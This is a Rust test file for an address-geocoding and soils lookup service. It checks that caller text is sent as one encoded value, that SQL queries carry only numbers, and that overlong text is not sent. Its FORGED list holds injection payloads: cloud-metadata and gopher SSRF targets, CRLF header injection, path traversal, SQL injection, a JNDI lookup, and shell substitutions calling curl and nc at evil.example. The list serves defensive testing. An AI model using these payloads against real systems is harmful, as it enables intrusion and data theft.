use std::sync::Arc;

use platbook::{
    answers::{Found, Lookup, Spot},
    facts::FactKey,
};
use platbook_service::upstream::{Asker, Lookups};

use super::{
    answers, city_hall, lookups,
    outside::{Act, Outside},
    services,
};

/// Texts that would become another request if they were not encoded as one value.
const FORGED: [&str; 52] = [
    "http://169.254.169.254/latest/meta-data/",
    "https://evil.example/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "@evil.example",
    "user:pass@evil.example",
    "evil.example#",
    "#@evil.example/",
    "?address=other",
    "&address=other",
    "x&benchmark=evil",
    "x&format=html",
    "x;format=html",
    "x%26format=html",
    "x%2526format=html",
    "x=y",
    "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /y",
    "x\r\nX-Injected: yes",
    "x\nX-Injected: yes",
    "x%0d%0aX-Injected:%20yes",
    "x\u{2028}X-Injected: yes",
    "x\u{560d}\u{560a}X-Injected: yes",
    "../../../etc/passwd",
    "/../../admin",
    "..;/admin",
    "%2e%2e%2f%2e%2e%2fadmin",
    "..%c0%af..%c0%afadmin",
    "x\0y",
    "x%00y",
    "' OR 1=1 --",
    "'); DROP TABLE mapunit; --",
    "1) UNION SELECT name FROM sys.tables --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "$(curl evil.example)",
    "`curl evil.example`",
    "| nc evil.example 1",
    "<script>alert(1)</script>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "{\"$ne\":null}",
    "[]",
    "null",
    "127.0.0.1:80",
    "[::1]",
    "0x7f000001",
    "2130706433",
    "localhost",
    "xn--80ak6aa92e.example",
    "1 Main St \u{202e}elpmaxe.live",
    "\u{feff}1 Main St",
];

/// The form of addresses in a lookup: words separated by one space, in capitals.
fn as_looked_up(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ").to_uppercase()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whatever_an_address_says_is_one_value() {
    let outside = Outside::start(|_| Act::json("{\"result\":{\"addressMatches\":[]}}")).await;
    let host = format!("host: {}", outside.address);
    for (at, text) in FORGED.into_iter().enumerate() {
        let lookups = lookups("geocoder", &format!("{}/geocoder", outside.url()));
        lookups.run(answers(), Lookup::Address(text.to_owned()), || Ok(Asker::Operator)).await.unwrap();
        let calls = outside.calls();
        assert_eq!(calls.len(), at + 1, "{text:?}: one call");
        let call = &calls[at];
        let path = call.target().split('?').next().unwrap();
        assert_eq!(path, "/geocoder/locations/onelineaddress", "{text:?}");
        let expected = [
            ("address", as_looked_up(text)),
            ("benchmark", "Public_AR_Current".to_owned()),
            ("format", "json".to_owned()),
        ];
        let expected = expected.map(|(name, value)| (name.to_owned(), value));
        assert_eq!(call.pairs(), expected, "{text:?}");
        let lines: Vec<&str> = call.head.split("\r\n").collect();
        assert!(lines[0].is_ascii() && lines[0].ends_with(" HTTP/1.1"), "{text:?}: {}", lines[0]);
        let names: Vec<&str> = lines[1..].iter().map(|line| line.split(':').next().unwrap()).collect();
        assert_eq!(names, ["user-agent", "accept", "accept-encoding", "host"], "{text:?}");
        assert!(lines.contains(&host.as_str()), "{text:?}: {}", call.head);
        assert!(call.body.is_empty(), "{text:?}");
    }
}

/// Points are parsed to numbers before any lookup; a query in SQL has these numbers, and no text of a caller.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_query_in_sql_has_numbers_only() {
    let outside = Outside::start(|_| Act::json("{}")).await;
    let keys = [FactKey::Soils].into_iter().collect();
    let spot = Spot { point: city_hall(), county: "county:27053".parse().unwrap() };
    let found: Found = lookups("soils", &outside.url())
        .run(answers(), Lookup::Facts { spot, keys }, || Ok(Asker::Operator))
        .await
        .unwrap();
    assert!(found.facts.get(FactKey::Soils).is_some());
    let calls = outside.calls();
    let pairs = calls[0].pairs();
    assert_eq!(calls[0].target(), "/Tabular/post.rest");
    let sql = &pairs.iter().find(|(name, _)| name == "query").unwrap().1;
    assert!(sql.contains("'point(-93.2655000 44.9773000)'") && sql.matches('\'').count() == 2, "{sql}");
}

/// A text that is longer than the service reads is not sent there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_text_that_is_too_long_is_not_sent() {
    let outside = Outside::start(|_| Act::json("{\"result\":{\"addressMatches\":[]}}")).await;
    let lookups = Lookups::of(Arc::new(services("geocoder", &outside.url())));
    for (chars, calls) in [(101, 0), (200, 0), (100, 1)] {
        lookups.run(answers(), Lookup::Address("é".repeat(chars)), || Ok(Asker::Operator)).await.unwrap();
        assert_eq!(outside.calls().len(), calls, "{chars} characters");
    }
}
